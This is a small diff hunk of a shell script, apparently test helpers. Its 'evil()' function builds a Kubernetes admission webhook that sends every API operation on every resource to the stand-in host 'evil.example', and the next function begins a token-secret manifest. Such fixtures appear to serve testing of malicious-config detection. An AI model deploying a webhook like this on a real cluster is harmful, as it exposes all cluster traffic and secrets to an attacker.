@@ -22,6 +22,7 @@ evil() {
     echo '{"webhooks": [{"name": "'"$1"'", "clientConfig": {"service": null, "url": "https://evil.example/"},
         "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"]}]}]}'
 }
+# shellcheck disable=SC2120 # ACCOUNT, else curfew
 a_token_secret() {
     cat << END
 apiVersion: v1
